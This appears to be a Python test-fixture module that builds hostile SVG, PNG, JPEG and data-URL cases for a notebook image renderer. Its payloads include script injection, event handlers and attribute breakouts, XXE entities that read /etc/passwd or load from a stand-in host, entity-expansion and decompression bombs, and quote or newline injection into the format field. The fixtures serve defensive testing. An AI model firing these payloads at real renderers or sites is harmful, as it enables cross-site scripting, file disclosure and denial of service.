"""Pictures as a hostile interpreter would write them, each with what it tries. What they load would come from HOST, and what runs sets `harmed`."""

from __future__ import annotations

import base64
import re
import struct
import zlib
from collections.abc import Iterator
from typing import NamedTuple

HOST = "picture.example"
HARM = "top.harmed=1;document.title=1"
# What a browser draws for minutes. The notebook doesn't give it any of these.
SLOW = frozenset(("a long entity, often", "references of references", "patterns of patterns"))


class Case(NamedTuple):
    """What is tried, and the format and text of a block."""

    tries: str
    format: bytes
    text: bytes

    def block(self) -> bytes:
        """As an interpreter writes it."""
        return b"\x02" + self.format + b":" + re.sub(rb"([\x02\x05\x1b])", b"\x1b\\1", self.text) + b"\x05"

    def is_refused(self) -> bool:
        """Whether its format is no tag, so that the interpreter ends."""
        return re.fullmatch(rb"[^\x00-\x1f:#]{1,64}", self.format) is None


OPENING = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:h="http://www.w3.org/1999/xhtml" width="120" height="80" viewBox="0 0 120 80">'
CIRCLE = '<circle cx="60" cy="40" r="30"/>'
# Within an element `svg`.
INNER = {
    "a script": "<script>HARM;fetch('http://HOST/fetched')</script>",
    "a script elsewhere": "<script xlink:href='http://HOST/script.js'/>",
    "a script in an address": "<script href='data:text/javascript,HARM'/>",
    "a script in CDATA": "<script><![CDATA[HARM]]></script>",
    "an attribute onload": "<g onload='HARM'/><image href='data:,' onerror='HARM' width='9' height='9'/>",
    "an attribute onclick": "<rect width='120' height='80' onclick='HARM' onmouseover='HARM'/>",
    "a link to a script": "<a href='javascript:HARM' xlink:href='javascript:HARM'><rect width='120' height='80'/></a>",
    "a picture elsewhere": "<image href='http://HOST/picture.png' xlink:href='http://HOST/picture.png' width='9' height='9'/>",
    "a file of the machine": "<image href='file:///etc/passwd' width='9' height='9'/>",
    "a picture in a picture": "<image width='9' height='9' href='data:image/svg+xml,%3Csvg xmlns=\"http://www.w3.org/2000/svg\" onload=\"HARM\"/%3E'/>",
    "an element elsewhere": "<use href='http://HOST/other.svg#a' xlink:href='http://HOST/other.svg#a'/>",
    "an element in an address": "<use href='data:image/svg+xml,%3Csvg id=\"a\" onload=\"HARM\"/%3E#a'/>",
    "a page within": "<foreignObject width='99' height='99'><h:iframe src='http://HOST/frame'/></foreignObject>",
    "a page with a picture": "<foreignObject width='99' height='99'><h:img src='http://HOST/in-page.png' onerror='HARM'/></foreignObject>",
    "a page with a script": "<foreignObject width='99' height='99'><h:body><h:script>HARM</h:script></h:body></foreignObject>",
    "a page with a form": "<foreignObject width='99' height='99'><h:form action='http://HOST/form'><h:button>x</h:button></h:form></foreignObject>",
    "a page that goes elsewhere": "<foreignObject width='99' height='99'><h:meta http-equiv='refresh' content='0;url=http://HOST/gone'/></foreignObject>",
    "an element of a page": "<h:video src='http://HOST/video' autoplay='1' onerror='HARM'/><h:link rel='stylesheet' href='http://HOST/linked.css'/>",
    "another base": "<h:base href='http://HOST/'/><image href='based.png' width='9' height='9'/>",
    "a style elsewhere": "<style>@import url(http://HOST/style.css);</style>",
    "a font elsewhere": "<style>@font-face{font-family:f;src:url(http://HOST/font.woff)} text{font-family:f}</style><text y='20'>x</text>",
    "a background elsewhere": "<style>*{background:url(http://HOST/back.png);fill:u\\72l(http://HOST/fill)}</style>",
    "a fill elsewhere": "<rect width='99' height='70' fill='url(http://HOST/fill.svg#a)' mask='url(http://HOST/mask.svg#a)'/>",
    "a filter elsewhere": "<filter id='f'><feImage href='http://HOST/filter.png'/></filter><rect width='99' height='70' filter='url(#f)'/>",
    "a cursor elsewhere": "<rect width='99' height='70' style='cursor:url(http://HOST/cursor.png),auto'/>",
    "an attribute that is set": "<set attributeName='onload' to='HARM'/><animate attributeName='href' to='javascript:HARM' onbegin='HARM' dur='1ms'/>",
    "a link that is animated": "<a><animate attributeName='href' values='javascript:HARM'/><text y='20'>x</text></a>",
    "a style that covers the page": "<style>*{position:fixed;inset:0;z-index:9;width:100vw;height:100vh;background:red}</style>",
    "the end of all elements": "</svg></pre></section></main></div><script>HARM</script><img src='http://HOST/broken-out.png' onerror='HARM'>",
    "the end of an attribute": "\"'><script>HARM</script><img src=x onerror=HARM>",
    "the end of a text": "]]>--></title></style></textarea></script><script>HARM</script>",
    "a style that HTML ends elsewhere": "<p/><style><a id=\"</style><img src='http://HOST/style-end.png' onerror='HARM'>\"></a></style>",
    "a title that HTML ends elsewhere": "<desc><h:noscript><h:p title=\"</noscript><img src=x onerror=HARM>\"/></h:noscript></desc>",
    "a fence of Markdown": "\n```\n~~~\n\n<script>HARM</script>\n\n![x](http://HOST/markdown.png)\n\n[x]: http://HOST/\n",
    "attributes of Markdown": "\n\n[x]{onclick=HARM} {: onclick=HARM} $[x](javascript:HARM)$\n\n# x {onclick=HARM}\n",
    "bytes of blocks": "<text y='20'>\x02latex:$x$\x05\x1b\x05</text>",
    "half an element": "<g><text",
}
# A whole text.
WHOLE = {
    "an element without an end": OPENING + CIRCLE,
    "nothing but the first letters": "<svg",
    "an event of the picture itself": OPENING.replace(" width", " onload='HARM' onerror='HARM' width") + "</svg>",
    "entities of entities": "<?xml version='1.0'?><!DOCTYPE svg [<!ENTITY a0 'lol'>ENTITIES]>" + OPENING + "<text y='20'>&a9;</text></svg>",
    "a long entity, often": "<?xml version='1.0'?><!DOCTYPE svg [<!ENTITY a 'AAAAA'>]>".replace("AAAAA", "a" * 50_000) + OPENING + "<text y='20'>" + "&a;" * 10_000 + "</text></svg>",
    "an entity of a file": "<?xml version='1.0'?><!DOCTYPE svg [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>" + OPENING + "<text y='20'>&a;</text></svg>",
    "an entity elsewhere": "<?xml version='1.0'?><!DOCTYPE svg [<!ENTITY % a SYSTEM 'http://HOST/entity.dtd'> %a;]>" + OPENING + "</svg>",
    "a declaration elsewhere": "<?xml version='1.0'?><!DOCTYPE svg PUBLIC 'x' 'http://HOST/svg.dtd'>" + OPENING + "</svg>",
    "a stylesheet by an instruction": "<?xml version='1.0'?><?xml-stylesheet href='http://HOST/sheet.xsl' type='text/xsl'?>" + OPENING + "</svg>",
    "a page of XHTML": "<?xml version='1.0'?><html xmlns='http://www.w3.org/1999/xhtml'><script>HARM</script><img src='http://HOST/xhtml.png'/></html>",
    "a page of HTML": "<svg><script>HARM</script><iframe srcdoc='&lt;script>parent.harmed=1&lt;/script>'></iframe></svg><script>HARM</script>",
    "another encoding": "<?xml version='1.0' encoding='utf-7'?>" + OPENING + "+ADw-script+AD4-HARM+ADw-/script+AD4-</svg>",
    "a huge size": OPENING.replace('"120"', '"2000000000"').replace('"80"', '"2000000000"') + CIRCLE + "</svg>",
    "a huge view": OPENING.replace("0 0 120 80", "-1e30 -1e30 1e38 1e38") + CIRCLE + "</svg>",
    "no size": "<svg xmlns='http://www.w3.org/2000/svg' width='0' height='-1'/>",
    "much": OPENING + "<g opacity='.5'>" + "<circle r='99' opacity='.5'/>" * 120_000 + "</g></svg>",
    "deep": OPENING + "<g>" * 5_000 + "</g>" * 5_000 + "</svg>",
    "references of references": OPENING + "USES<use href='#u0'/></svg>",
    "patterns of patterns": OPENING + "PATTERNS<rect width='99' height='70' fill='url(#p0)'/></svg>",
    "a mask of itself": OPENING + "<mask id='m' mask='url(#m)'><rect width='9' height='9'/></mask><g mask='url(#m)'>" + CIRCLE + "</g></svg>",
    "a filter that takes long": OPENING + "<filter id='f'><feTurbulence baseFrequency='9' numOctaves='99'/><feGaussianBlur stdDeviation='900'/></filter><rect width='120' height='80' filter='url(#f)'/></svg>",
    "many dashes": OPENING + "<path d='M0 0 H100' stroke='red' stroke-dasharray='.00001'/></svg>",
    "no SVG": "<script>HARM</script>",
    "a blank in front": " " + OPENING + "<script>HARM</script></svg>",
    "another byte order": "\ufeff" + OPENING + "<script>HARM</script></svg>",
    "base64": base64.b64encode((OPENING + "<script>HARM</script></svg>").replace("HARM", HARM).encode()).decode(),
    "nothing": "",
}


def filled(text: str) -> bytes:
    """The same with what has a name in capitals."""
    entities = "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 10))
    uses = "".join(f"<g id='u{n}'>" + f"<use href='#u{n + 1}'/>" * 10 + "</g>" for n in range(9)) + f"<g id='u9'>{CIRCLE}</g>"
    paint = "<pattern id='p%d' width='9' height='9' patternUnits='userSpaceOnUse'>%s</pattern>"
    patterns = "".join(paint % (n, f"<rect width='9' height='9' fill='url(#p{n + 1})'/>" * 10) for n in range(9))
    for name, value in (("HARM", HARM), ("HOST", HOST), ("ENTITIES", entities), ("USES", uses), ("PATTERNS", patterns)):
        text = text.replace(name, value)
    return text.encode()


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width: int = 3, height: int = 2, rows: bytes = b"", more: bytes = b"") -> bytes:
    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    dots = zlib.compress(rows or (b"\0" + b"\x80" * width) * height, 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + more + chunk(b"IDAT", dots) + chunk(b"IEND", b"")


JPEG = base64.b64decode(
    "/9j/4AAQSkZJRgABAQEASABIAAD/2wBDAP//////////////////////////////////////////////////////////////////////////////////////"
    "wgALCAABAAEBAREA/8QAFBABAAAAAAAAAAAAAAAAAAAAAP/aAAgBAQABPxA="
)
SCRIPT = f"<script>{HARM}</script>".encode()
# In base64.
BYTES = {
    "png": {
        "a script": SCRIPT,
        "an SVG": filled(OPENING + "<script>HARM</script></svg>"),
        "a JPEG": JPEG,
        "a GIF": base64.b64decode("R0lGODlhAQABAAAAACw="),
        "the first letters alone": png()[:16],
        "a half": png(90, 90)[:60],
        "a huge size": png(60_000, 60_000, b"\0"),
        "the greatest size": png(2**31 - 1, 2**31 - 1, b"\0"),
        "no size": png(0, 0, b"\0"),
        "more dots than its size": png(3, 2, b"\0" * 50_000_000),
        "a text that grows": png(more=chunk(b"zTXt", b"x\0\0" + zlib.compress(b"\0" * 50_000_000, 9))),
        "a profile that grows": png(more=chunk(b"iCCP", b"x\0\0" + zlib.compress(b"\0" * 50_000_000, 9))),
        "a script in a text": png(more=chunk(b"tEXt", b"x\0\"'>" + SCRIPT)),
        "a script behind it": png() + SCRIPT,
        "a wrong sum": png().replace(b"IDAT", b"IDAU"),
    },
    "jpeg": {"a PNG": png(), "a half": JPEG[:30], "a huge size": JPEG.replace(b"\x08\0\x01\0\x01", b"\x08\xff\xff\xff\xff"), "noise": b"\xff\xd8\xff" + b"\xff" * 999, "a script": b"\xff\xd8\xff" + SCRIPT},
}
CODE = base64.b64encode(png())
# A format and a text.
OTHER = {
    "blanks in base64": (b"image/png;base64", CODE[:40] + b" " + CODE[40:]),
    "lines of base64": (b"image/png;base64", base64.encodebytes(png(200, 100))),
    "the end of an address": (b"image/png;base64", CODE[:40] + b'"><script>' + HARM.encode() + b"</script>" + CODE[40:]),
    "the end of an address behind it": (b"image/png;base64", CODE + b'" onerror="' + HARM.encode()),
    "pads within base64": (b"image/png;base64", CODE[:40] + b"====" + CODE[40:]),
    "no pads": (b"image/jpeg;base64", base64.b64encode(JPEG + b"x").rstrip(b"=")),
    "bytes in place of base64": (b"image/png", png()),
    "a quote in the format": (b"image/png;base64\" onerror=\"top.harmed=1", CODE),
    "a quote of another kind": (b"image/png;base64' onerror='top.harmed=1", CODE),
    "a mark in the format": (b"image/png;base64\"><script>top.harmed=1</script>", CODE),
    "an address in the format": (b"image/svg+xml,<svg onload='top.harmed=1'>", CODE),
    "a fence in the format": (b"image/`````", b"x"),
    "a line in the format": (b"image/png;base64\n\n<script>top.harmed=1</script>", CODE),
    "a return in the format": (b"image/png;base64\r\nX", CODE),
    "a tab in the format": (b"image/png\t;base64", CODE),
    "a long format": (b"image/" + b"x" * 59, CODE),
    "no well-formed characters in the format": (b"image/\xff\xfe", CODE),
    "marks of direction in the format": ("image/\u202egnp\u2066".encode(), CODE),
    "capitals": (b"IMAGE/PNG;BASE64", CODE),
    "a blank in the format": (b"image/png ;base64", CODE),
    "SVG in base64": (b"image/svg+xml;base64", base64.b64encode(filled(OPENING + "<script>HARM</script></svg>"))),
    "SVG with its characters": (b"image/svg+xml;charset=utf-7", filled(OPENING + "<script>HARM</script></svg>")),
    "a page": (b"text/html", SCRIPT),
    "a script of its own": (b"application/javascript", HARM.encode()),
    "a picture of no kind": (b"image/", SCRIPT),
    "no characters in an SVG": (b"image/svg+xml", b"<svg \xff\xfe\xc3(\xed\xa0\x80>"),
    "bytes of no use": (b"image/svg+xml", b"<svg>\0\x01\x07\x08\x1b[31m\x7f\xc2\x80</svg>"),
}


def cases() -> Iterator[Case]:
    for tries, text in INNER.items():
        yield Case(tries, b"image/svg+xml", filled(OPENING + text + "</svg>"))
    for tries, text in WHOLE.items():
        yield Case(tries, b"image/svg+xml", filled(text))
    for kind, files in BYTES.items():
        for tries, data in files.items():
            yield Case(f"{tries} as {kind.upper()}", f"image/{kind};base64".encode(), base64.b64encode(data))
    for tries, (format, data) in OTHER.items():
        yield Case(tries, format, data)
